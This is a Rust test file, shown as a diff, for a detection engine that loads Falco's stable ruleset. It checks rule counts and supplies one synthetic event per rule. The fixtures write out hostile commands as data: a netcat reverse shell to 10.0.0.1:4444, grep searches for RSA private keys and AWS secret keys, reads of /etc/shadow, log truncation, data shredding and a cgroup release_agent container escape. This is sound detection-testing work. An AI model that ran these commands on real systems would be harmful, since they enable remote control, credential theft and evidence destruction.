@@ -1,0 +1,353 @@
+//! The Falco stable ruleset, loaded unchanged from the shared folder: exact counts of
+//! active, disabled and skipped rules, and one event per active rule that fires it.
+use serde_json::{Value, json};
+
+use crate::{
+    event::EventKind,
+    rules::{Engine, JsonEvent, RuleStatus, Scratch},
+};
+
+/// Falco's stable ruleset is test data kept beside the repository (`../shared`), never
+/// copied into it.
+const FALCO_RULES: &str = concat!(
+    env!("CARGO_MANIFEST_DIR"),
+    "/../../shared/falco-rules/falco_rules.yaml"
+);
+
+fn engine() -> Engine {
+    Engine::load_paths(&[FALCO_RULES.into()]).unwrap_or_else(|e| panic!("{e}"))
+}
+
+fn fired(engine: &Engine, event: &Value) -> Vec<String> {
+    let ev = JsonEvent::new(event).unwrap();
+    let mut scratch = Scratch::default();
+    let mut out = Vec::new();
+    engine.evaluate(&ev, &mut scratch, &mut out);
+    let mut names: Vec<String> = out.iter().map(|r| r.name.clone()).collect();
+    names.sort();
+    names
+}
+
+/// Merges `extra` into `base` (objects recursively).
+fn with(mut base: Value, extra: Value) -> Value {
+    fn merge(a: &mut Value, b: Value) {
+        match (a, b) {
+            (Value::Object(a), Value::Object(b)) => {
+                for (k, v) in b {
+                    merge(a.entry(k).or_insert(Value::Null), v);
+                }
+            }
+            (a, b) => *a = b,
+        }
+    }
+    merge(&mut base, extra);
+    base
+}
+
+fn exec(name: &str, exe: &str, args: &[&str]) -> Value {
+    let mut argv = vec![name.to_string()];
+    argv.extend(args.iter().map(|s| s.to_string()));
+    json!({
+        "kind": "exec", "syscall": "execve", "time": "2025-01-01T00:00:00.000000001Z",
+        "boot_ns": 20_000_000_000u64, "pid": 100, "tid": 100, "comm": name, "cgroup_id": 1,
+        "ppid": 99, "uid": 0, "gid": 0, "euid": 0, "egid": 0, "loginuid": null,
+        "result": 0, "error": null, "exe": exe, "filename": null, "args": argv,
+        "args_truncated": false, "dirfd": -100, "at_flags": 0,
+        "process": {"pid": 100, "ppid": 99, "name": name, "exe": exe, "exepath": exe,
+            "args": args, "cwd": "/root", "tty": 0, "sid": 1, "vpid": 100, "uid": 0,
+            "user": "root", "gid": 0, "group": "root", "loginuid": null,
+            "start_boot_ns": 19_000_000_000u64, "exe_upper_layer": false},
+        "ancestors": [{"pid": 99, "name": "bash", "exe": "bash", "exepath": "/usr/bin/bash", "cmdline": "bash"}]
+    })
+}
+
+fn open(name: &str, path: &str, resolved: &str, flags: u64) -> Value {
+    json!({
+        "kind": "open", "syscall": "openat", "time": "2025-01-01T00:00:00Z",
+        "boot_ns": 20_000_000_000u64, "pid": 200, "tid": 200, "comm": name, "cgroup_id": 1,
+        "path": path, "resolved_path": resolved, "dirfd": -100, "flags": flags, "mode": 0,
+        "result": 3, "fd": 3, "error": null, "uid": 0,
+        "process": {"pid": 200, "ppid": 199, "name": name, "exe": name, "exepath": format!("/usr/bin/{name}"),
+            "args": [], "cwd": "/", "tty": 0, "sid": 1, "uid": 0, "user": "root", "gid": 0,
+            "group": "root", "loginuid": null, "start_boot_ns": 1},
+        "ancestors": [{"pid": 199, "name": "bash", "exe": "bash", "exepath": "/usr/bin/bash", "cmdline": "bash"}]
+    })
+}
+
+fn connect(name: &str, exe: &str, addr: &str, port: u16) -> Value {
+    json!({
+        "kind": "connect", "time": "2025-01-01T00:00:00Z", "boot_ns": 1, "pid": 300, "tid": 300,
+        "comm": name, "cgroup_id": 1, "fd": 3, "family": "inet", "sock_type": "stream",
+        "address": addr, "port": port, "unix_path": null, "result": 0, "error": null, "uid": 0,
+        "process": {"pid": 300, "name": name, "exe": exe, "exepath": exe, "args": [], "uid": 0, "user": "root"},
+        "ancestors": [{"pid": 299, "name": "bash", "exe": "bash", "exepath": "/usr/bin/bash", "cmdline": "bash"}]
+    })
+}
+
+fn container(extra: Value) -> Value {
+    with(
+        json!({"container": {"id": "4f2a6b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a",
+            "short_id": "4f2a6b0c9d8e", "name": "web", "runtime": "docker", "image": "nginx:1.25",
+            "image_repository": "nginx", "image_tag": "1.25", "labels": {}, "privileged": false,
+            "pod": {"name": "web-0", "namespace": "prod", "uid": "u-1", "labels": {}}}}),
+        extra,
+    )
+}
+
+const O_WRONLY: u64 = 1;
+const O_TRUNC: u64 = 0o1000;
+
+#[test]
+fn falco_ruleset_counts_and_skip_reasons() {
+    let engine = engine();
+    let mut active = Vec::new();
+    let mut disabled = Vec::new();
+    let mut skipped = Vec::new();
+    for s in engine.summaries() {
+        match &s.status {
+            RuleStatus::Active { .. } => active.push(s.name.clone()),
+            RuleStatus::Disabled => disabled.push(s.name.clone()),
+            RuleStatus::Skipped { reason } => skipped.push(format!("{}: {reason}", s.name)),
+        }
+    }
+    assert_eq!(active.len(), 18, "{active:#?}");
+    assert_eq!(disabled.len(), 0);
+    let n = "which this agent does not produce";
+    assert_eq!(
+        skipped,
+        vec![
+            format!(
+                "Create Symlink Over Sensitive Files: needs evt.type in (symlink, symlinkat), {n}"
+            ),
+            format!("Create Hardlink Over Sensitive Files: needs evt.type in (link, linkat), {n}"),
+            format!("Packet socket created in container: needs evt.type in (socket), {n}"),
+            format!(
+                "Redirect STDOUT/STDIN to Network Connection in Container: needs evt.type in (dup, dup2, dup3), {n}"
+            ),
+            format!(
+                "Linux Kernel Module Injection Detected: needs evt.type in (finit_module, init_module), {n}"
+            ),
+            format!("PTRACE attached to process: needs evt.type in (ptrace), {n}"),
+            format!("PTRACE anti-debug attempt: needs evt.type in (ptrace), {n}"),
+        ]
+    );
+    assert_eq!(
+        engine.kernel_interest().into_iter().collect::<Vec<_>>(),
+        vec![EventKind::Exec, EventKind::Connect, EventKind::Open]
+    );
+    let types = |name: &str| engine.rule(name).unwrap().event_types.clone();
+    use crate::rules::EventType::*;
+    assert_eq!(types("Run shell untrusted"), vec![Execve, Execveat]);
+    assert_eq!(
+        types("Read sensitive file untrusted"),
+        vec![Open, Openat, Openat2]
+    );
+    assert_eq!(
+        types("Disallowed SSH Connection Non Standard Port"),
+        vec![Connect]
+    );
+}
+
+/// (expected rules that fire, event) — one per active rule.
+fn fixtures() -> Vec<(Vec<&'static str>, Value)> {
+    vec![
+        (
+            vec!["Directory traversal monitored file read"],
+            with(
+                open("nginx", "/var/www/../../etc/passwd", "/etc/passwd", 0),
+                json!({"ancestors": [{"pid": 1, "name": "nginx"}]}),
+            ),
+        ),
+        (
+            vec![
+                "Read sensitive file trusted after startup",
+                "Read sensitive file untrusted",
+            ],
+            with(
+                open("nginx", "/etc/shadow", "/etc/shadow", 0),
+                json!({"boot_ns": 20_000_000_000u64, "process": {"start_boot_ns": 1_000_000_000u64}}),
+            ),
+        ),
+        (
+            vec!["Read sensitive file untrusted"],
+            open("cat", "/etc/shadow", "/etc/shadow", 0),
+        ),
+        (
+            vec!["Run shell untrusted"],
+            with(
+                exec("sh", "/bin/sh", &["-c", "id"]),
+                json!({"ancestors": [{"pid": 99, "name": "nginx", "exe": "nginx", "exepath": "/usr/sbin/nginx", "cmdline": "nginx -g daemon off;"}]}),
+            ),
+        ),
+        (
+            vec!["System user interactive"],
+            with(
+                exec("ls", "/bin/ls", &["-l"]),
+                json!({"process": {"user": "www-data", "uid": 33},
+                       "ancestors": [{"pid": 99, "name": "bash"}, {"pid": 98, "name": "sshd"}]}),
+            ),
+        ),
+        (
+            vec!["Terminal shell in container"],
+            container(with(
+                exec("bash", "/bin/bash", &[]),
+                json!({"process": {"tty": 34816}, "ancestors": [{"pid": 99, "name": "runc:[1:CHILD]"}]}),
+            )),
+        ),
+        (
+            vec!["Contact K8S API Server From Container"],
+            container(with(
+                connect("curl", "/usr/bin/curl", "10.96.0.1", 443),
+                json!({"server_name": "kubernetes.default.svc.cluster.local"}),
+            )),
+        ),
+        (
+            vec!["Netcat Remote Code Execution in Container"],
+            container(exec(
+                "nc",
+                "/bin/nc",
+                &["-e", "/bin/sh", "10.0.0.1", "4444"],
+            )),
+        ),
+        (
+            vec!["Search Private Keys or Passwords"],
+            exec("grep", "/bin/grep", &["-r", "BEGIN RSA PRIVATE", "/"]),
+        ),
+        (
+            vec!["Clear Log Activities"],
+            open(
+                "truncate",
+                "/var/log/syslog",
+                "/var/log/syslog",
+                O_WRONLY | O_TRUNC,
+            ),
+        ),
+        (
+            vec!["Remove Bulk Data from Disk"],
+            exec("shred", "/usr/bin/shred", &["-u", "/data/db"]),
+        ),
+        (
+            vec!["Debugfs Launched in Privileged Container"],
+            container(with(
+                exec("debugfs", "/sbin/debugfs", &["/dev/sda1"]),
+                json!({"container": {"privileged": true}}),
+            )),
+        ),
+        (
+            vec!["Detect release_agent File Container Escapes"],
+            container(with(
+                open(
+                    "sh",
+                    "/sys/fs/cgroup/x/release_agent",
+                    "/sys/fs/cgroup/x/release_agent",
+                    O_WRONLY,
+                ),
+                json!({"process": {"cap_effective": ["CAP_DAC_OVERRIDE", "CAP_SYS_ADMIN"]}}),
+            )),
+        ),
+        (
+            vec!["Find AWS Credentials"],
+            exec(
+                "grep",
+                "/bin/grep",
+                &["-r", "aws_secret_access_key", "/root"],
+            ),
+        ),
+        (
+            vec!["Execution from /dev/shm"],
+            exec("x", "/dev/shm/x", &[]),
+        ),
+        (
+            vec!["Drop and execute new binary in container"],
+            container(with(
+                exec("miner", "/tmp/miner", &[]),
+                json!({"process": {"exe_upper_layer": true}}),
+            )),
+        ),
+        (
+            vec!["Disallowed SSH Connection Non Standard Port"],
+            connect("ssh", "/usr/bin/ssh", "203.0.113.5", 443),
+        ),
+        (
+            vec!["Fileless execution via memfd_create"],
+            with(
+                exec("payload", "memfd:payload", &[]),
+                json!({"process": {"exepath": "memfd:payload (deleted)"}}),
+            ),
+        ),
+    ]
+}
+
+#[test]
+fn every_active_falco_rule_fires_on_its_fixture() {
+    let engine = engine();
+    let fixtures = fixtures();
+    let mut covered: Vec<&str> = Vec::new();
+    for (expected, event) in &fixtures {
+        let mut expected: Vec<String> = expected.iter().map(|s| s.to_string()).collect();
+        expected.sort();
+        assert_eq!(fired(&engine, event), expected, "event: {event}");
+        covered.extend(
+            expected
+                .iter()
+                .map(|s| engine.rule(s).unwrap().name.as_str()),
+        );
+    }
+    for rule in engine.rules() {
+        assert!(
+            covered.contains(&rule.name.as_str()),
+            "no fixture fires '{}'",
+            rule.name
+        );
+    }
+}
+
+#[test]
+fn falco_exclusions_hold() {
+    let engine = engine();
+    // A shell spawned by nginx whose command line is in known_shell_spawn_cmdlines
+    // (a list item written as '"sh -c uname -s 2>&1"').
+    let ev = with(
+        exec("sh", "/bin/sh", &["-c", "uname -s 2>&1"]),
+        json!({"ancestors": [{"pid": 99, "name": "nginx"}]}),
+    );
+    assert_eq!(fired(&engine, &ev), Vec::<String>::new());
+    // passwd (in passwd_binaries) may read /etc/shadow.
+    assert!(fired(&engine, &open("passwd", "/etc/shadow", "/etc/shadow", 0)).is_empty());
+    // An outbound ssh to a private address or a standard port does not fire.
+    assert!(fired(&engine, &connect("ssh", "/usr/bin/ssh", "10.1.2.3", 443)).is_empty());
+    assert!(fired(&engine, &connect("ssh", "/usr/bin/ssh", "203.0.113.5", 22)).is_empty());
+    // The K8s API from a kube-system pod is expected.
+    let ev = container(with(
+        connect("curl", "/usr/bin/curl", "10.96.0.1", 443),
+        json!({"server_name": "kubernetes.default.svc.cluster.local",
+               "container": {"pod": {"namespace": "kube-system"}}}),
+    ));
+    assert!(fired(&engine, &ev).is_empty());
+    // A terminal shell on the host (container.id = host) is not a container shell.
+    let ev = with(
+        exec("bash", "/bin/bash", &[]),
+        json!({"container": {"id": "host"}, "process": {"tty": 34816}, "ancestors": [{"pid": 1, "name": "sshd"}]}),
+    );
+    assert!(fired(&engine, &ev).is_empty());
+}
+
+#[test]
+fn falco_output_is_formatted() {
+    let engine = engine();
+    let ev = open("cat", "/etc/shadow", "/etc/shadow", 0);
+    let rule = engine.rule("Read sensitive file untrusted").unwrap();
+    let alert = engine.alert(rule, &JsonEvent::new(&ev).unwrap());
+    assert_eq!(
+        alert.output,
+        "Sensitive file opened for reading by non-trusted program | file=/etc/shadow gparent=<NA> \
+         ggparent=<NA> gggparent=<NA> evt_type=openat user=root user_uid=0 user_loginuid=-1 \
+         process=cat proc_exepath=/usr/bin/cat parent=bash command=cat terminal=0"
+    );
+    assert_eq!(alert.priority, "Warning");
+    assert_eq!(alert.output_fields["fd.name"], json!("/etc/shadow"));
+    assert_eq!(alert.output_fields["proc.aname[2]"], Value::Null);
+    assert_eq!(alert.output_fields["user.uid"], json!(0));
+    assert_eq!(alert.time, json!("2025-01-01T00:00:00Z"));
+    assert!(alert.tags.contains(&"T1555".to_string()));
+}
